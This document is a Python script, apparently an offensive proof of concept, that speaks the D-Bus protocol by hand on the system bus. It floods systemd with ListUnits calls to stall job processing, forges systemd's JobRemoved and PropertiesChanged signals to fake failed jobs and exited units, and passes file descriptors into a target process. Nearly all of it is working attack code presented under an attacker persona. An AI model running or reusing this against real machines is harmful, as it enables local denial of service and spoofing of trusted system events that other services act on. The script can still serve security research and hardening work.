"""Runs in the machine as any local user: floods systemd or another program on the system bus, which lets everybody send signals.

Speaks just enough of the bus's protocol (D-Bus Specification, "Message Protocol") to send; what comes back is read and dropped.
"""

import os
import socket
import struct
import sys
import threading
import time

CALL, SIGNAL, NO_REPLY = 1, 4, 1
MANAGER = "org.freedesktop.systemd1.Manager"
UNIX_FDS = b"\x09\x01u\0"  # the header's field that tells how many descriptors come along


def padded(data, size):
    return data + bytes(-len(data) % size)


def text(value):
    return struct.pack("<I", len(value)) + value + b"\0"


def field(code, kind, value):
    signature = bytes([len(value)]) + value + b"\0" if kind == b"g" else text(value)
    return padded(bytes([code, 1]) + kind + b"\0" + signature, 8)


def message(kind, member, destination, path="/org/freedesktop/systemd1", interface=MANAGER, signature=b"", body=b"", flags=NO_REPLY, descriptors=0):
    fields = UNIX_FDS + struct.pack("<I", descriptors) if descriptors else b""
    fields += field(1, b"o", path.encode()) + field(2, b"s", interface.encode()) + field(3, b"s", member.encode())
    fields += field(6, b"s", destination.encode()) + (field(8, b"g", signature) if signature else b"")
    # The last one is not padded in its own length, only before the body.
    unpadded = len(fields.rstrip(b"\0")) + 1
    return padded(b"l" + bytes([kind, flags, 1]) + struct.pack("<III", len(body), 1, unpadded) + fields[:unpadded], 8) + body


class Bus:
    def __init__(self, with_descriptors=False):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect("/run/dbus/system_bus_socket")
        self.socket.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        self.socket.recv(1000)
        if with_descriptors:
            self.socket.sendall(b"NEGOTIATE_UNIX_FD\r\n")
            self.socket.recv(1000)
        self.socket.sendall(b"BEGIN\r\n")
        name = "org.freedesktop.DBus"
        self.socket.sendall(message(CALL, "Hello", name, "/org/freedesktop/DBus", name, flags=0))
        # Until it answers, the bus reads what comes without descriptors, and would lose some that come along.
        self.socket.recv(1 << 16)
        threading.Thread(target=self.drop_answers, daemon=True).start()

    def drop_answers(self):
        while self.socket.recv(1 << 16):
            pass


def keep_systemd_busy(seconds, at_once):
    """While it has messages to answer, systemd starts no job. `at_once`: so many a hundredth of a second."""
    bus, until = Bus(), time.monotonic() + seconds
    while time.monotonic() < until:
        bus.socket.sendall(message(CALL, "ListUnits", "org.freedesktop.systemd1") * at_once)
        time.sleep(0.01)


def job_removed(destination, number, size):
    job = text(f"/org/freedesktop/systemd1/job/{number}".encode())
    body = padded(padded(struct.pack("<I", number) + job, 4) + text(b"x" * size), 4) + text(b"failed-by-eve")
    return message(SIGNAL, "JobRemoved", destination, signature=b"uoss", body=body)


def changed(destination, path, interface, *properties):
    """systemd's signal about properties of a unit: names, signatures, sizes to which the values are aligned, and values."""
    changes = b""
    for name, kind, size, value in properties:
        changes = padded(padded(changes, 8) + text(name) + bytes([len(kind)]) + kind + b"\0", size) + value
    body = padded(text(interface), 4) + struct.pack("<I", len(changes))
    body = padded(padded(body, 8) + changes, 4) + struct.pack("<I", 0)
    return message(SIGNAL, "PropertiesChanged", destination, path, "org.freedesktop.DBus.Properties", b"sa{sv}as", body)


def tell_of_an_end(destination, path):
    """Says that a unit's program has exited with 7, and then that nothing is left of the unit."""
    bus = Bus()
    code = (b"ExecMainCode", b"i", 4, struct.pack("<i", 1))
    status = (b"ExecMainStatus", b"i", 4, struct.pack("<i", 7))
    bus.socket.sendall(changed(destination, path, b"org.freedesktop.systemd1.Service", code, status))
    state = (b"ActiveState", b"s", 4, text(b"inactive"))
    job = (b"Job", b"(uo)", 8, struct.pack("<I", 0) + text(b"/"))
    bus.socket.sendall(changed(destination, path, b"org.freedesktop.systemd1.Unit", state, job))
    time.sleep(1)


def forge(destination, count, size):
    """Tells somebody that jobs of systemd's have failed."""
    bus = Bus()
    for number in range(count):
        bus.socket.sendall(job_removed(destination, number, size))
    time.sleep(1)  # a connection that ends takes along what was not delivered yet


def hand_over(destination, file):
    """A signal with a descriptor, which the bus puts into the descriptors of whoever it is addressed to."""
    bus = Bus(with_descriptors=True)
    sent = message(SIGNAL, "Take", destination, "/", "of.Eve", b"h", struct.pack("<I", 0), descriptors=1)
    socket.send_fds(bus.socket, [sent], [file])
    time.sleep(1)
    return bus


if __name__ == "__main__":
    if sys.argv[1] == "busy":
        keep_systemd_busy(float(sys.argv[2]), int(sys.argv[3]))
    elif sys.argv[1] == "end":
        tell_of_an_end(sys.argv[2], sys.argv[3])
    else:
        forge(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
